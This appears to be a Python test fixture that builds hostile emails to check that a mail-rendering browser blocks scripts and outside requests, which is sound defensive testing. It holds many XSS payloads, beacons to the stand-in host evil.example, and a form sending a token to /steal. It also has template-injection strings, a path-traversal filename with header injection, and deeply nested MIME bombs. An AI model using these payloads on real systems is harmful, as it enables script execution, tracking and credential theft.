"""Hostile mails, for a browser that shows them: scripts, beacons, broken parts, false pages.

Each tries to run a script (then `owned` is somewhere in the page) or to reach `EVIL`.
"""

import base64
from collections.abc import Iterator
from urllib.parse import quote

EVIL = "http://evil.example"
RUN = "document.documentElement.dataset.owned=1;top.document.title='owned'"
REACH = f"fetch('{EVIL}/fetch')"
PICTURE = f"<img src={EVIL}/p.png onerror={RUN}>"
DATA = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

MARKUP = {
    "script": f"<script>{RUN};{REACH}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script with a source": f"<script src={EVIL}/x.js></script>",
    "script module": f"<script type=module>import '{EVIL}/m.js'</script>",
    "script cut in two": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script that never ends": f"<script>{RUN}",
    "script in a comment's end": f"<!--><script>{RUN}</script>-->",
    "script after a comment that lies": f"<!-- --!><script>{RUN}</script> -->",
    "script in CDATA": f"<![CDATA[<script>{RUN}</script>]]>",
    "script in a title": f"<title></title><script>{RUN}</script>",
    "script in noscript": f'<noscript><p title="</noscript><script>{RUN}</script>"></noscript>',
    "script in a textarea": f'<textarea><p title="</textarea><script>{RUN}</script>"></textarea>',
    "script in a style": f"<style><p title='</style><script>{RUN}</script>'></style>",
    "script in a template": f"<template><script>{RUN}</script></template>",
    "script in MathML": f"<math><mtext><script>{RUN}</script></mtext></math>",
    "script in SVG": f"<svg><script>{RUN}</script></svg>",
    "SVG that loads": f"<svg onload={RUN}><image href={EVIL}/s.png></svg>",
    "SVG that animates": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "SVG that uses": f"<svg><use href='{EVIL}/u.svg#x'></use></svg>",
    "namespace confusion": f"<math><mi><table><mglyph><style><!--</style>{PICTURE}-->",
    "picture with a handler": PICTURE,
    "picture set": f"<img srcset='{EVIL}/1.png 1x, {EVIL}/2.png 2x'>",
    "picture element": f"<picture><source srcset={EVIL}/s.webp><img src=x></picture>",
    "picture with a slash": f"<img/src='{EVIL}/slash.png'/onerror='{RUN}'>",
    "picture with a line": f"<img\nsrc\n=\n'{EVIL}/line.png'\nonerror\n=\n'{RUN}'>",
    "picture in an unclosed quote": f"<img alt='<img src={EVIL}/q.png onerror={RUN}>",
    "picture that is an input": f"<input type=image src={EVIL}/i.png autofocus onfocus={RUN}>",
    "body with a handler": f"<body onload={RUN} background={EVIL}/b.png>",
    "details with a handler": f"<details open ontoggle={RUN}>x</details>",
    "marquee with a handler": f"<marquee onstart={RUN}>x</marquee>",
    "focus with a handler": f"<p tabindex=0 autofocus onfocus={RUN}>x</p>",
    "video": f"<video src={EVIL}/v.mp4 poster={EVIL}/v.png onerror={RUN} autoplay></video>",
    "audio": f"<audio src={EVIL}/a.mp3 autoplay onerror={RUN}></audio>",
    "track": f"<video><track src={EVIL}/t.vtt default></video>",
    "frame": f"<iframe src={EVIL}/f></iframe>",
    "frame of a script": f'<iframe src="javascript:{RUN}"></iframe>',
    "frame of data": f'<iframe src="data:text/html;base64,{DATA}"></iframe>',
    "frame in a frame": f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    "frameset": f"<frameset><frame src={EVIL}/fs></frameset>",
    "object": f"<object data={EVIL}/o.swf></object>",
    "embed": f"<embed src={EVIL}/e.pdf>",
    "applet": f"<applet code=X archive={EVIL}/a.jar></applet>",
    "portal": f"<portal src={EVIL}/portal></portal>",
    "style sheet": f"<link rel=stylesheet href={EVIL}/s.css>",
    "preconnection": f"<link rel=preconnect href={EVIL}><link rel=dns-prefetch href={EVIL}>",
    "prefetch": f"<link rel=prefetch href={EVIL}/p><link rel=preload as=image href={EVIL}/pl>",
    "prerender": f"<link rel=prerender href={EVIL}/r><link rel=modulepreload href={EVIL}/m.js>",
    "manifest and icon": f"<link rel=manifest href={EVIL}/m.json><link rel=icon href={EVIL}/i.ico>",
    "import of a style": f"<style>@import '{EVIL}/i.css';</style>",
    "font": f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}p{{font-family:x}}</style>x",
    "background": f"<div style='background:url({EVIL}/bg.png)'>x</div>",
    "style that runs": "<div style='width:expression(owned=1);behavior:url(#x)'>x</div>",
    "style that asks": f"<style>[value^=a]{{background:url({EVIL}/css)}}</style><input value=a>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "another policy": "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "another base": f"<base href={EVIL}/ target=_top><a href=x>x</a>",
    "form": f"<form action={EVIL}/form><button autofocus>Log in</button></form>",
    "form around the page": f"</pre></section></main><form action={EVIL}/steal><input name=token>",
    "button of a form": f"<button formaction={EVIL}/fa>x</button>",
    "link to a script": f'<a href="javascript:{RUN}">x</a>',
    "link in entities": f'<a href="&#106;avascript&colon;{quote(RUN)}">x</a>',
    "link that pings": f"<a href={EVIL}/a ping={EVIL}/ping target=_top>x</a>",
    "area": f"<map name=m><area shape=default href={EVIL}/area></map><img usemap=#m>",
    "out of the frame": f"</body></html><script>{RUN}</script>",
    "out of the attribute": f"&quot;&gt;<script>{RUN}</script>",
    "out of the attribute, raw": f"\"'><script>{RUN}</script><iframe srcdoc='",
    "NUL in a tag": f"<scr\x00ipt>{RUN}</scr\x00ipt><im\x00g src={EVIL}/nul.png>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["/table"]}]}</script>',
    "very many": f"<b>{'<a '}" * 2000 + PICTURE,
    "very deep": "<div>" * 5000 + PICTURE,
}
FIELDS = {
    "subject": f"<script>{RUN}</script><img src={EVIL}/subject.png>",
    "subject in an attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    "subject with a template": "{{ 7*7 }}{% for x in ().__class__.__base__ %}{{ x }}{% endfor %}",
    "subject that turns": "invoice\u202egpj.exe \u2066\u200b\u0007",
    "subject that is broken": "=?utf-8?b?a?= =?utf-7?q?+ADw-script+AD4-?=",
    "encoded subject": f"=?utf-8?b?{base64.b64encode(PICTURE.encode()).decode()}?=",
}


def corpus() -> Iterator[tuple[str, bytes]]:
    """Each mail with its name."""
    for name, markup in MARKUP.items():
        yield name, mail("Hello", f"<html><body>{markup}<p>the end</p></body></html>")
    for name, value in FIELDS.items():
        yield name, mail(value, "<p>the end</p>")
    yield "text of HTML", mail("Hello", PICTURE, kind="text/plain")
    yield "another charset", mail("Hello", "+ADw-script+AD4-", charset="utf-7")
    yield "half a character", mail("=?utf-7?q?+2AA-?=", "+2AA-<p>the end</p>", charset="utf-7")
    yield "no such charset", mail("Hello", PICTURE, charset="\"'><script>")
    yield "kind of a part", mail("Hello", PICTURE, kind=f"text/{PICTURE.split()[0]}")
    yield "SVG as a part", mail("Hello", MARKUP["script in SVG"], kind="image/svg+xml")
    yield "name of a file", named(f"<img src=x onerror={RUN}>.html")
    yield "name of a folder", named("../../../../etc/passwd\r\nSet-Cookie: owned=1")
    yield "sender", b"From: " + PICTURE.encode() + b" <a@b.example>\r\n\r\nx\r\n"
    yield "headers", b'X-"><script>owned</script>: 1\r\nSubject: x\r\n\r\nx\r\n'
    yield "parts in parts", nested(2000)
    yield "very many parts", many(500)
    yield "no mail at all", bytes(range(256)) * 8


def mail(subject: str, body: str, kind: str = "text/html", charset: str = "utf-8") -> bytes:
    head = (
        f"From: Eve <eve@evil.example>\r\nTo: me@example.com\r\nSubject: {subject}\r\n"
        f"MIME-Version: 1.0\r\nContent-Type: {kind}; charset={charset}\r\n"
        "Content-Transfer-Encoding: 8bit\r\n\r\n"
    )
    return (head + body + "\r\n").encode()


def named(file: str) -> bytes:
    return (
        "Subject: file\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
        f'Content-Type: text/html; name="{file}"\r\n'
        f'Content-Disposition: attachment; filename="{file}"\r\n\r\n'
        "<script>owned</script>\r\n--b--\r\n"
    ).encode()


def nested(depth: int) -> bytes:
    return b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (each, each)
        for each in range(depth)
    )


def many(count: int) -> bytes:
    part = b"--b\r\nContent-Type: text/html\r\n\r\n" + PICTURE.encode() + b"\r\n"
    return b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * count + b"--b--\r\n"
